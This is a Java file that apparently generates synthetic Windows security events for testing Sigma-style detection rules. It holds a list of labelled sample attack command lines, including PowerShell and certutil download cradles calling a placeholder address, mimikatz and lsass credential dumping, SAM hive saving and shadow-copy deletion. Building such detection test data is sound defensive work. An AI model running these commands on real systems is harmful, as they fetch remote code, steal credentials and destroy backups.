package io.ironpost.bench.gen;

import java.util.List;

/// What the SigmaHQ rules for Windows describe, one example each of well-known kinds.
///
/// @param kind what the truth file calls it
/// @param category Sigma's category of the event
/// @param image the program
/// @param detail the command line; the file, address or registry value for the other categories
/// @param parent the program that started it
record Mischief(String kind, String category, String image, String detail, String parent) {
  private static final String SYSTEM = "C:\\Windows\\System32\\";
  private static final String CMD = SYSTEM + "cmd.exe";
  private static final String WORD =
      "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE";
  private static final String POWERSHELL = SYSTEM + "WindowsPowerShell\\v1.0\\powershell.exe";

  static final List<Mischief> ALL =
      List.of(
          process(
              "encoded PowerShell",
              POWERSHELL,
              "powershell.exe -nop -w hidden -enc JABzAD0ATgBlAHcALQBPAGIAagBlAGMAdAAgAEkATwAuAE0A",
              WORD),
          process(
              "download cradle",
              POWERSHELL,
              "powershell IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.50/a.ps1')",
              CMD),
          process(
              "mimikatz",
              "C:\\Users\\Public\\mimikatz.exe",
              "mimikatz.exe \"privilege::debug\" \"sekurlsa::logonpasswords\" exit",
              CMD),
          process(
              "certutil download",
              SYSTEM + "certutil.exe",
              "certutil.exe -urlcache -split -f http://203.0.113.50/a.exe C:\\Users\\Public\\a.exe",
              CMD),
          process(
              "rundll32 with script",
              SYSTEM + "rundll32.exe",
              "rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication \";document.write();",
              WORD),
          process(
              "memory of lsass",
              SYSTEM + "rundll32.exe",
              "rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 C:\\temp\\l.dmp full",
              CMD),
          process(
              "shadow copies deleted",
              SYSTEM + "vssadmin.exe",
              "vssadmin.exe delete shadows /all /quiet",
              CMD),
          process(
              "remote scriptlet",
              SYSTEM + "regsvr32.exe",
              "regsvr32.exe /s /n /u /i:http://203.0.113.50/a.sct scrobj.dll",
              WORD),
          process("hive saved", SYSTEM + "reg.exe", "reg save HKLM\\SAM C:\\temp\\sam.hiv", CMD),
          process(
              "bitsadmin download",
              SYSTEM + "bitsadmin.exe",
              "bitsadmin /transfer j /download /priority high http://203.0.113.50/a.exe C:\\a.exe",
              CMD),
          new Mischief(
              "dump of lsass written",
              "file_event",
              "C:\\Users\\Public\\tool.exe",
              "C:\\Users\\Public\\lsass.dmp",
              ""),
          new Mischief(
              "run key to PowerShell",
              "registry_set",
              SYSTEM + "reg.exe",
              "HKU\\S-1-5-21-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\u",
              "powershell.exe -w hidden -enc JABzAD0A"),
          new Mischief(
              "regsvr32 talks to the Internet",
              "network_connection",
              SYSTEM + "regsvr32.exe",
              "203.0.113.50",
              "443"));

  private static Mischief process(String kind, String image, String commandLine, String parent) {
    return new Mischief(kind, "process_creation", image, commandLine, parent);
  }
}
